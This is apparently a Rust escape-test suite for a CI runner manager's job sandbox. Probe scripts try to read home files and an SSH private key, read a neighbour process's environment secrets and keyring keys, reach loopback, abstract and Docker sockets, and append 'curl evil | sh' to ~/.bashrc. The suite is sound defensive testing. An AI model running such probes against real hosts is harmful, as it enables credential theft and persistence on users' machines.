//! The job sandbox's escape suite: each wall is tried by a real job run through the real
//! service against the fake GitHub, with a probe script that exits 0 when it got through.
//! Every probe is also run outside the sandbox, on the host, as an unprivileged stranger
//! (`nobody`: no more than a job's own uid may), and must get through there: otherwise the
//! test could not fail.
//!
//! Every wall is tried in both modes: the system service (root, each job under a uid of its
//! own as the second wall) and the per-user service (run as an ordinary developer account,
//! `rm-e2e-dev`: jobs run as the developer, so the sandbox is the only wall). Outside the
//! sandbox the probe runs as the job's own kind of identity: `nobody` for the system service,
//! the developer for the per-user one.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use rm_e2e::jobs::{out_dir, read, run};
use rm_e2e::{dev_user, fake_github, is_root, routing_label, Daemon, DevUser};
use rm_testkit::{Conclusion, FakeGitHub, JobSpec};

/// How the service runs.
#[derive(Debug, Clone)]
enum Mode {
    /// As root (the boot service): jobs under per-attempt uids.
    System,
    /// As the developer (the portable archive's login service).
    User(DevUser),
}

impl Mode {
    fn both() -> [Mode; 2] {
        [Mode::System, Mode::User(dev_user())]
    }

    /// The uid and gid a probe runs as outside the sandbox: no more than the job's own.
    fn outside_ids(&self) -> (u32, u32) {
        match self {
            Mode::System => (65534, 65534),
            Mode::User(u) => (u.uid, u.gid),
        }
    }
}

/// Runs `sh -c script` (or `bash file`) on the host as the mode's outside identity.
fn as_outsider(mode: &Mode) -> Command {
    let (uid, gid) = mode.outside_ids();
    let mut c = Command::new("setpriv");
    c.args([
        &format!("--reuid={uid}"),
        &format!("--regid={gid}"),
        "--clear-groups",
        "--",
    ])
    .current_dir("/");
    if let Mode::User(u) = mode {
        c.env("HOME", &u.home);
    }
    c
}

/// A service in `mode` with `octo/hello` added; answers its routing label.
async fn service(gh: &FakeGitHub, mode: &Mode) -> (Daemon, String) {
    let d = match mode {
        Mode::System => Daemon::start(gh).await,
        Mode::User(u) => Daemon::start_as(gh, u).await,
    };
    d.sign_in(gh, "octo").await;
    let added = d
        .ok(&["repo", "add", "octo/hello", "--max-runners", "2"])
        .await;
    let label = routing_label(&added);
    (d, label)
}

/// Runs `step` as one job of `octo/hello` through the service and requires it to succeed (the
/// probes report what they saw through files, not through the job's conclusion).
async fn job(d: &Daemon, gh: &FakeGitHub, label: &str, name: &str, step: &str) {
    let c = run(
        d,
        gh,
        "octo/hello",
        vec![JobSpec::new(name, &[label]).with_command(step)],
    )
    .await;
    assert_eq!(c, vec![Conclusion::Success], "the job {name} ran");
}

/// Runs `script` (bash) on the host as the mode's outsider; true when it exits 0.
fn outside(mode: &Mode, script: &Path) -> bool {
    as_outsider(mode)
        .arg("bash")
        .arg(script)
        .status()
        .expect("setpriv runs")
        .success()
}

/// Writes `probe` as a script every uid may run, runs it outside (it must get through), then
/// as a job's step (it must not), in `mode`.
async fn escape_attempt(mode: &Mode, wall: &str, probe: &str, prepare_outside: impl Fn()) {
    let gh = fake_github().await;
    let (d, label) = service(&gh, mode).await;
    let out = out_dir();
    let script = out.path().join("probe.sh");
    std::fs::write(&script, format!("set -u\n{probe}\n")).unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();

    prepare_outside();
    assert!(
        outside(mode, &script),
        "{wall} ({mode:?}): the probe must get through outside the sandbox, or this test proves nothing:\n{probe}"
    );

    let o = out.path().display();
    let step = format!(
        "if bash {o}/probe.sh > {o}/said 2>&1; then echo escaped > {o}/result; else echo held > {o}/result; fi"
    );
    let c = run(
        &d,
        &gh,
        "octo/hello",
        vec![JobSpec::new(wall, &[&label]).with_command(&step)],
    )
    .await;
    assert_eq!(
        c,
        vec![Conclusion::Success],
        "{wall} ({mode:?}): the job ran"
    );
    let said = std::fs::read_to_string(out.path().join("said")).unwrap_or_default();
    assert_eq!(
        read(out.path(), "result"),
        "held",
        "{wall} ({mode:?}): the job got through the sandbox; it said:\n{said}"
    );
    d.stop().await.unwrap();
}

fn root_only() -> bool {
    if !is_root() {
        eprintln!(
            "skipped: the escape suite makes host users and files (run it as root, as CI does)"
        );
        return false;
    }
    true
}

/// A world-readable file in a 0755 home; for the per-user service also the developer's own
/// 0600 SSH key.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_cannot_read_files_in_homes() {
    if !root_only() {
        return;
    }
    let home = tempfile::Builder::new()
        .prefix("rm-sandbox-home")
        .tempdir_in("/home")
        .unwrap();
    std::fs::set_permissions(home.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let notes = home.path().join("notes.txt");
    std::fs::write(&notes, "the developer's notes").unwrap();
    std::fs::set_permissions(&notes, std::fs::Permissions::from_mode(0o644)).unwrap();
    for mode in Mode::both() {
        let mut probe = format!("cat {} >/dev/null", notes.display());
        if let Mode::User(u) = &mode {
            let ssh = u.home.join(".ssh");
            std::fs::create_dir_all(&ssh).unwrap();
            let key = ssh.join("id_ed25519");
            std::fs::write(&key, "-----BEGIN OPENSSH PRIVATE KEY-----\n").unwrap();
            std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
            for p in [&ssh, &key] {
                std::os::unix::fs::chown(p, Some(u.uid), Some(u.gid)).unwrap();
            }
            probe = format!("{probe} || cat {} >/dev/null", key.display());
        }
        escape_attempt(&mode, "home-files", &probe, || {}).await;
    }
}

/// The per-user service's jobs run as the developer: `~/.bashrc` must not be theirs to
/// change (a write lands in the sandbox's empty home and goes with it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_cannot_change_the_developers_shell_startup() {
    if !root_only() {
        return;
    }
    let mode = Mode::User(dev_user());
    let Mode::User(u) = &mode else { unreachable!() };
    let bashrc = u.home.join(".bashrc");
    let before = std::fs::read(&bashrc).unwrap_or_default();
    let append = format!(
        "echo 'curl evil | sh # rm-sandbox-probe' >> {}",
        bashrc.display()
    );
    assert!(
        as_outsider(&mode)
            .args(["sh", "-c", &append])
            .status()
            .unwrap()
            .success(),
        "outside, the developer's own processes may append to it"
    );
    std::fs::write(&bashrc, &before).unwrap();
    std::os::unix::fs::chown(&bashrc, Some(u.uid), Some(u.gid)).unwrap();

    let gh = fake_github().await;
    let (d, label) = service(&gh, &mode).await;
    let c = run(
        &d,
        &gh,
        "octo/hello",
        vec![JobSpec::new("bashrc", &[&label]).with_command(&format!("{append} || true"))],
    )
    .await;
    assert_eq!(c, vec![Conclusion::Success]);
    assert_eq!(
        std::fs::read(&bashrc).unwrap_or_default(),
        before,
        "the job changed the developer's ~/.bashrc"
    );
    d.stop().await.unwrap();
}

/// Another process's environment (a neighbouring runner's JIT configuration lives there) and
/// signalling it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_cannot_see_or_signal_another_process() {
    if !root_only() {
        return;
    }
    for mode in Mode::both() {
        // A process of the job's own identity outside, with a secret in its environment.
        let mut neighbour = as_outsider(&mode)
            .args(["sleep", "3001"])
            .env("RM_PROBE_NEIGHBOUR_SECRET", "jit-config-of-another-runner")
            .spawn()
            .unwrap();
        // setpriv execs sleep: the same pid.
        let pid = neighbour.id();
        let probe = format!(
            "grep -q RM_PROBE_NEIGHBOUR_SECRET /proc/{pid}/environ && kill -0 {pid} && \
             ps -e | grep -q 'sleep'"
        );
        escape_attempt(&mode, "other-process", &probe, || {}).await;
        let _ = neighbour.kill();
        let _ = neighbour.wait();
    }
}

/// The local API's socket (an operator's whole power for the per-user service) and the
/// service's data (journal, credential).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_cannot_reach_the_services_socket_or_data() {
    if !root_only() {
        return;
    }
    for mode in Mode::both() {
        let gh = fake_github().await;
        let (d, label) = service(&gh, &mode).await;
        let out = out_dir();
        let o = out.path().display();
        let socket = d.socket.display().to_string();
        let data = d.data_dir.display().to_string();
        // The job's own runner directory lies under the data directory, so the directories on
        // the way to it exist inside (empty mount points); anything else of the data directory
        // (the journal, the credential, the package cache) must not.
        let probe = format!(
            "test -e {socket} || [ -n \"$(ls -A {data} 2>/dev/null | grep -v '^runners$')\" ]"
        );
        // Outside, as the service itself sees them, the probe finds both.
        let seen = match &mode {
            Mode::System => Command::new("sh").args(["-c", &probe]).status(),
            Mode::User(_) => as_outsider(&mode).args(["sh", "-c", &probe]).status(),
        };
        assert!(
            seen.unwrap().success(),
            "{mode:?}: outside, the socket and the data are there"
        );
        let step = format!("if {probe}; then echo escaped; else echo held; fi > {o}/result");
        job(&d, &gh, &label, "service-socket", &step).await;
        assert_eq!(
            read(out.path(), "result"),
            "held",
            "{mode:?}: the job saw the service's socket or data"
        );
        d.stop().await.unwrap();
    }
}

/// A service on the host's loopback (a database, a dev server). The fake GitHub, also on
/// loopback, stays reachable: the job ran at all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_cannot_reach_the_hosts_loopback_services() {
    if !root_only() {
        return;
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in listener.incoming() {
            drop(s);
        }
    });
    for mode in Mode::both() {
        let probe = format!("exec 3<>/dev/tcp/127.0.0.1/{port}");
        escape_attempt(&mode, "host-loopback", &probe, || {}).await;
    }
}

/// An abstract unix socket of the host (an X server's `@/tmp/.X11-unix/X0`, some session
/// buses): no permission check applies to those, only the network namespace.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_cannot_reach_the_hosts_abstract_sockets() {
    if !root_only() {
        return;
    }
    use std::os::linux::net::SocketAddrExt as _;
    let name = format!("rm-sandbox-probe-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    std::thread::spawn(move || {
        for s in listener.incoming() {
            drop(s);
        }
    });
    let probe = format!(
        "/usr/bin/python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0{name}')\""
    );
    for mode in Mode::both() {
        escape_attempt(&mode, "abstract-socket", &probe, || {}).await;
    }
}

/// Files a job leaves in `/tmp`, `/var/tmp` and `/dev/shm` stay neither on the host nor for
/// the next job.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_job_leaves_in_the_temp_directories_goes_with_it() {
    if !root_only() {
        return;
    }
    for mode in Mode::both() {
        let tag = format!("rm-sandbox-left-{}", std::process::id());
        let places = ["/tmp", "/var/tmp", "/dev/shm"].map(|d| format!("{d}/{tag}"));
        let write = places
            .iter()
            .map(|p| format!("echo left > {p}"))
            .collect::<Vec<_>>()
            .join(" && ");
        let all_there = places
            .iter()
            .map(|p| format!("test -f {p}"))
            .collect::<Vec<_>>()
            .join(" && ");
        // Outside, the same writes stay on the host.
        assert!(as_outsider(&mode)
            .args(["sh", "-c", &write])
            .status()
            .unwrap()
            .success());
        assert!(places.iter().all(|p| Path::new(p).exists()));
        for p in &places {
            std::fs::remove_file(p).unwrap();
        }

        let gh = fake_github().await;
        let (d, label) = service(&gh, &mode).await;
        let out = out_dir();
        let o = out.path().display();
        let first = format!("{write} && {all_there} && echo wrote > {o}/first");
        let second = format!(
            "if {all_there} 2>/dev/null; then echo found; else echo clean; fi > {o}/second"
        );
        job(&d, &gh, &label, "leaves-files", &first).await;
        assert_eq!(
            read(out.path(), "first"),
            "wrote",
            "{mode:?}: the job could write its temp dirs"
        );
        for p in &places {
            assert!(!Path::new(p).exists(), "{mode:?}: {p} was left on the host");
        }
        job(&d, &gh, &label, "comes-next", &second).await;
        assert_eq!(read(out.path(), "second"), "clean", "{mode:?}");
        d.stop().await.unwrap();
    }
}

/// A daemon a job starts (`setsid`, double fork) ends with the job: the PID namespace ends
/// when the runner does. (The same daemon started outside lives on: the e2e
/// `job_isolation` test shows a leftover needs ending.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_daemon_a_job_starts_ends_with_it() {
    if !root_only() {
        return;
    }
    for (i, mode) in Mode::both().into_iter().enumerate() {
        let marker = format!("{}", 2988 + i);
        let alive = |marker: &str| {
            std::fs::read_dir("/proc").unwrap().flatten().any(|e| {
                std::fs::read(e.path().join("cmdline"))
                    .is_ok_and(|c| c.split(|b| *b == 0).nth(1) == Some(marker.as_bytes()))
            })
        };
        let gh = fake_github().await;
        let (d, label) = service(&gh, &mode).await;
        let out = out_dir();
        let o = out.path().display();
        // The double fork leaves the daemon outside the step's process group and the
        // listener's session: only the namespace's end reaches it.
        let step = format!(
            "setsid sh -c '(exec sleep {marker}) & echo started > {o}/left' </dev/null >/dev/null 2>&1 &\n\
             while [ ! -s {o}/left ]; do sleep 0.05; done"
        );
        job(&d, &gh, &label, "starts-a-daemon", &step).await;
        rm_e2e::until(Duration::from_secs(20), "the daemon ended", || async {
            (!alive(&marker)).then_some(())
        })
        .await;
        d.stop().await.unwrap();
    }
}

/// `host doctor` reports the sandbox, in both modes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_doctor_reports_the_sandbox() {
    if !root_only() {
        return;
    }
    for mode in Mode::both() {
        let gh = fake_github().await;
        let (d, _label) = service(&gh, &mode).await;
        let report = d.ok(&["host", "doctor"]).await;
        assert!(
            report.contains("Jobs run inside the sandbox"),
            "{mode:?}: the doctor names the wall:\n{report}"
        );
        let check = sandbox_check(&d).await;
        assert_eq!(check["state"], "pass", "{mode:?}: {check}");
        assert_eq!(check["required"], true);
        d.stop().await.unwrap();
    }
}

async fn sandbox_check(d: &Daemon) -> serde_json::Value {
    let out = d.run(&["host", "doctor", "--json"]).await;
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    v["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == "job_sandbox")
        .expect("a job_sandbox check")
        .clone()
}

/// A host that cannot build the walls (here: the sandbox's programs are not where the service
/// looks) runs no job: the doctor fails with the fix, and a queued job gets no runner, so no
/// JIT configuration is asked of GitHub. Only a target the operator set to run without the
/// sandbox runs its jobs there, unwalled, and the other target still waits.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_that_cannot_build_the_walls_runs_no_job_but_an_opted_out_targets() {
    if !root_only() {
        return;
    }
    let empty = tempfile::tempdir().unwrap();
    let gh = rm_e2e::fake_github_repos(
        rm_testkit::FakeConfig {
            device_interval: Duration::from_secs(1),
            ..rm_testkit::FakeConfig::default()
        },
        &["octo/hello", "octo/other"],
    )
    .await;
    let d = Daemon::start_env(
        &gh,
        &[],
        &[(
            "RUNNER_MANAGER_SANDBOX_PATH",
            empty.path().to_str().unwrap(),
        )],
    )
    .await;
    d.sign_in(&gh, "octo").await;
    let added = d
        .ok(&["repo", "add", "octo/hello", "--max-runners", "1"])
        .await;
    let label = routing_label(&added);
    let check = sandbox_check(&d).await;
    assert_eq!(check["state"], "fail", "{check}");
    let fix = check["fix"].as_str().unwrap_or_default();
    assert!(fix.contains("apt install bubblewrap passt"), "{check}");
    gh.queue_job("octo/hello", JobSpec::new("waits", &[&label]))
        .unwrap();
    tokio::time::sleep(Duration::from_secs(4)).await;
    assert!(gh.runners().is_empty(), "no runner was registered");
    let status = d.ok(&["status"]).await;
    assert!(
        status.contains("sandbox"),
        "status names the sandbox as what stops jobs:\n{status}"
    );
    let fix = check["fix"].as_str().unwrap_or_default();
    assert!(fix.contains("repo set TARGET --sandbox off"), "{check}");

    let added = d
        .ok(&["repo", "add", "octo/other", "--max-runners", "1"])
        .await;
    let other = routing_label(&added);
    d.ok(&["repo", "set", "octo/other", "--sandbox", "off"])
        .await;
    let out = out_dir();
    let step = format!("echo ran > {}/other", out.path().display());
    let c = run(
        &d,
        &gh,
        "octo/other",
        vec![JobSpec::new("unwalled", &[&other]).with_command(&step)],
    )
    .await;
    assert_eq!(c, vec![Conclusion::Success], "{}", d.log());
    assert_eq!(read(out.path(), "other"), "ran");
    let waiting = gh.jobs().into_iter().find(|j| j.name == "waits").unwrap();
    assert_eq!(
        waiting.status,
        rm_testkit::JobStatus::Queued,
        "the walled target's job still waits"
    );
    assert!(
        gh.runners().is_empty(),
        "no runner was registered for the walled target"
    );
    d.stop().await.unwrap();
}

/// The operator's opt-out: jobs run, and status says in plain words that they run unwalled.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_opt_out_runs_jobs_and_says_so() {
    if !root_only() {
        return;
    }
    let gh = fake_github().await;
    let d = Daemon::start_with(&gh, &["--sandbox", "off"]).await;
    d.sign_in(&gh, "octo").await;
    let added = d
        .ok(&["repo", "add", "octo/hello", "--max-runners", "1"])
        .await;
    let label = routing_label(&added);
    let check = sandbox_check(&d).await;
    assert_eq!(check["state"], "warn", "{check}");
    let status = d.ok(&["status"]).await;
    assert!(
        status.contains("can read your files"),
        "status says what the opt-out means:\n{status}"
    );
    // Unwalled, a job sees the host's /tmp: the walls above are what this test suite tests.
    let out = out_dir();
    let o = out.path().display();
    let marker = format!("/tmp/rm-sandbox-optout-{}", std::process::id());
    std::fs::write(&marker, "host").unwrap();
    let step = format!("if test -f {marker}; then echo host; else echo walled; fi > {o}/seen");
    job(&d, &gh, &label, "unwalled", &step).await;
    let _ = std::fs::remove_file(&marker);
    assert_eq!(read(out.path(), "seen"), "host");
    d.stop().await.unwrap();
}

/// The kernel keyring of the session the service was started from (a login session's keys:
/// possessing the session keyring is enough to read them, whatever the uid).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_cannot_read_the_services_session_keyring() {
    if !root_only() {
        return;
    }
    for mode in Mode::both() {
        // Outside: a process of the service's own user in such a session reads the key.
        let outside = match &mode {
            Mode::System => Command::new("keyctl"),
            Mode::User(_) => {
                let mut c = as_outsider(&mode);
                c.arg("keyctl");
                c
            }
        }
        .args([
            "session",
            "-",
            "sh",
            "-c",
            "keyctl add user rm-probe a-login-secret @s >/dev/null && keyctl print %user:rm-probe",
        ])
        .stderr(std::process::Stdio::null())
        .output()
        .unwrap();
        assert!(
            String::from_utf8_lossy(&outside.stdout).contains("a-login-secret"),
            "{mode:?}: outside, in the service's session, the key is readable"
        );

        let gh = fake_github().await;
        let user = match &mode {
            Mode::System => None,
            Mode::User(u) => Some(u),
        };
        let d = Daemon::start_in_keyring(&gh, user, Some(("rm-probe", "a-login-secret"))).await;
        d.sign_in(&gh, "octo").await;
        let added = d
            .ok(&["repo", "add", "octo/hello", "--max-runners", "1"])
            .await;
        let label = routing_label(&added);
        let out = out_dir();
        let o = out.path().display();
        let step = format!(
            "keyctl show @s > {o}/said 2>&1; if keyctl print %user:rm-probe 2>>{o}/said | grep -q a-login-secret; then echo escaped; else echo held; fi > {o}/result"
        );
        job(&d, &gh, &label, "keyring", &step).await;
        assert_eq!(
            read(out.path(), "result"),
            "held",
            "{mode:?}: the job read the key; it saw:\n{}",
            std::fs::read_to_string(out.path().join("said")).unwrap_or_default()
        );
        d.stop().await.unwrap();
    }
}

/// A target's own opt-out: its jobs run unwalled and status says so on that target; another
/// target's jobs stay walled; `--sandbox on` walls it again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_targets_own_opt_out_is_shown_on_it_and_walls_no_other() {
    if !root_only() {
        return;
    }
    let gh = fake_github().await;
    let (d, label) = service(&gh, &Mode::System).await;
    let updated = d
        .ok(&["repo", "set", "octo/hello", "--sandbox", "off"])
        .await;
    assert!(updated.contains("SANDBOX OFF"), "{updated}");
    assert!(updated.contains("can read your files"), "{updated}");
    let status = d.ok(&["status", "--json"]).await;
    let v: serde_json::Value = serde_json::from_str(&status).unwrap();
    assert_eq!(v["targets"][0]["sandbox"]["walls"], false, "{status}");
    assert!(v["targets"][0]["sandbox"]["warning"]
        .as_str()
        .is_some_and(|w| w.contains("without the sandbox")));

    let marker = format!("/tmp/rm-sandbox-target-optout-{}", std::process::id());
    std::fs::write(&marker, "host").unwrap();
    let out = out_dir();
    let o = out.path().display();
    let step = |tag: &str| {
        format!("if test -f {marker}; then echo host; else echo walled; fi > {o}/{tag}")
    };
    let c = run(
        &d,
        &gh,
        "octo/hello",
        vec![JobSpec::new("unwalled", &[&label]).with_command(&step("off"))],
    )
    .await;
    assert_eq!(c, vec![Conclusion::Success]);
    assert_eq!(read(out.path(), "off"), "host", "the opt-out applies");

    d.ok(&["repo", "set", "octo/hello", "--sandbox", "on"])
        .await;
    job(&d, &gh, &label, "walled", &step("on")).await;
    let _ = std::fs::remove_file(&marker);
    assert_eq!(read(out.path(), "on"), "walled", "walled again");
    // The choice survives a restart (the journal keeps it).
    d.ok(&["repo", "set", "octo/hello", "--sandbox", "off"])
        .await;
    let mut d = d;
    d.restart().await;
    let listed = d.ok(&["repo", "list"]).await;
    assert!(listed.contains("SANDBOX OFF"), "{listed}");
    d.stop().await.unwrap();
}

/// Docker is an explicit per-target opt-in: only then does the job reach the host's Docker
/// socket (here a stand-in listening at /run/docker.sock, group-only like docker's), with the
/// socket's group given to the runner's uid; status says its jobs have root.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docker_is_reached_only_by_a_target_that_opted_in() {
    if !root_only() {
        return;
    }
    let socket = Path::new("/run/docker.sock");
    if socket.exists() {
        eprintln!("skipped: a real /run/docker.sock exists on this machine");
        return;
    }
    let listener = std::os::unix::net::UnixListener::bind(socket).unwrap();
    // Group-only, as docker's: a gid no account of the machine has.
    let gid = 1_499_999_990;
    std::os::unix::fs::chown(socket, Some(0), Some(gid)).unwrap();
    std::fs::set_permissions(socket, std::fs::Permissions::from_mode(0o660)).unwrap();
    std::thread::spawn(move || {
        for s in listener.incoming() {
            drop(s);
        }
    });
    struct Remove;
    impl Drop for Remove {
        fn drop(&mut self) {
            let _ = std::fs::remove_file("/run/docker.sock");
        }
    }
    let _remove = Remove;

    let gh = fake_github().await;
    let (d, label) = service(&gh, &Mode::System).await;
    let out = out_dir();
    let o = out.path().display();
    let probe = |tag: &str| {
        format!(
            "if /usr/bin/python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('/var/run/docker.sock')\" 2>/dev/null; then echo reached; else echo refused; fi > {o}/{tag}"
        )
    };
    let c = run(
        &d,
        &gh,
        "octo/hello",
        vec![JobSpec::new("no-docker", &[&label]).with_command(&probe("default"))],
    )
    .await;
    assert_eq!(c, vec![Conclusion::Success]);
    assert_eq!(
        read(out.path(), "default"),
        "refused",
        "no Docker by default"
    );

    let updated = d.ok(&["repo", "set", "octo/hello", "--docker", "on"]).await;
    assert!(updated.contains("docker: on"), "{updated}");
    assert!(updated.contains("root"), "{updated}");
    let c = run(
        &d,
        &gh,
        "octo/hello",
        vec![JobSpec::new("docker", &[&label]).with_command(&probe("docker"))],
    )
    .await;
    assert_eq!(c, vec![Conclusion::Success]);
    assert_eq!(
        read(out.path(), "docker"),
        "reached",
        "the opt-in gives Docker"
    );
    d.stop().await.unwrap();
}

/// A DNS server on a loopback address of the host, as systemd-resolved's `127.0.0.53` is:
/// answers `A` for `name` with `addr`, NXDOMAIN for any other name. A few lines of RFC 1035
/// written here: no DNS server crate is worth its build time for one answer in one test.
fn loopback_resolver(ip: std::net::Ipv4Addr, name: &str, addr: [u8; 4]) {
    let sock = std::net::UdpSocket::bind((ip, 53)).unwrap();
    let name = name.to_ascii_lowercase();
    std::thread::spawn(move || {
        let mut buf = [0u8; 512];
        while let Ok((n, from)) = sock.recv_from(&mut buf) {
            if let Some(answer) = dns_answer(&buf[..n], &name, addr) {
                let _ = sock.send_to(&answer, from);
            }
        }
    });
}

/// The answer to one query: its question echoed, then one `A` record when it asks for `name`.
fn dns_answer(q: &[u8], name: &str, addr: [u8; 4]) -> Option<Vec<u8>> {
    let mut at = 12;
    let mut labels = Vec::new();
    loop {
        let len = usize::from(*q.get(at)?);
        at += 1;
        if len == 0 {
            break;
        }
        labels.push(String::from_utf8_lossy(q.get(at..at + len)?).to_ascii_lowercase());
        at += len;
    }
    let qtype = u16::from_be_bytes([*q.get(at)?, *q.get(at + 1)?]);
    let question = q.get(12..at + 4)?;
    let found = labels.join(".") == name;
    let answers = u8::from(found && qtype == 1);
    let mut out = q.get(0..2)?.to_vec();
    // A response, authoritative, recursion as asked and available; NXDOMAIN for other names.
    out.push(0x84 | (q[2] & 0x01));
    out.push(0x80 | if found { 0 } else { 3 });
    out.extend_from_slice(&[0, 1, 0, answers, 0, 0, 0, 0]);
    out.extend_from_slice(question);
    if answers == 1 {
        out.extend_from_slice(&[0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
        out.extend_from_slice(&addr);
    }
    Some(out)
}

/// A host whose resolver is on its loopback (systemd-resolved's `127.0.0.53`; here a stand-in
/// on another loopback address, one per test process, in a mount namespace of the service's own whose
/// `/etc/resolv.conf` names it): the job's loopback is its own, so the service gives it a
/// resolver configuration naming the sandbox's DNS forward, and a name resolves in the job as
/// on the host. Outside the sandbox the same configuration resolves it too, so the test can
/// fail only on the sandbox's account.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_resolves_names_through_the_hosts_loopback_resolver() {
    if !root_only() {
        return;
    }
    // An address of this process's own (all of 127/8 is loopback): two suites at once on one
    // machine must not want the same port 53.
    let pid = std::process::id();
    let ip = std::net::Ipv4Addr::new(127, 83, (pid >> 8) as u8, (pid % 250 + 1) as u8);
    let name = "probe.rm-dns.test";
    loopback_resolver(ip, name, [10, 1, 2, 3]);
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let conf = dir.path().join("resolv.conf");
    std::fs::write(
        &conf,
        format!("nameserver {ip}\noptions timeout:2 attempts:3\n"),
    )
    .unwrap();
    std::fs::set_permissions(&conf, std::fs::Permissions::from_mode(0o644)).unwrap();

    let outside = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "--", "sh", "-c"])
        .arg(r#"mount --bind "$0" /etc/resolv.conf && getent ahostsv4 "$1""#)
        .arg(&conf)
        .arg(name)
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&outside.stdout).contains("10.1.2.3"),
        "outside the sandbox the loopback resolver answers, or this test proves nothing: {outside:?}"
    );

    for mode in Mode::both() {
        let gh = fake_github().await;
        let user = match &mode {
            Mode::System => None,
            Mode::User(u) => Some(u),
        };
        let d = Daemon::start_with_resolver(&gh, user, &conf).await;
        d.sign_in(&gh, "octo").await;
        let added = d
            .ok(&["repo", "add", "octo/hello", "--max-runners", "1"])
            .await;
        let label = routing_label(&added);
        let out = out_dir();
        let o = out.path().display();
        let step = format!(
            "cat /etc/resolv.conf > {o}/conf; getent ahostsv4 {name} > {o}/seen 2>&1; true"
        );
        job(&d, &gh, &label, "dns", &step).await;
        let seen = read(out.path(), "seen");
        assert!(
            seen.contains("10.1.2.3"),
            "{mode:?}: the job did not resolve {name} (it got {seen:?}) with this resolver \
             configuration:\n{}",
            read(out.path(), "conf")
        );
        d.stop().await.unwrap();
    }
}
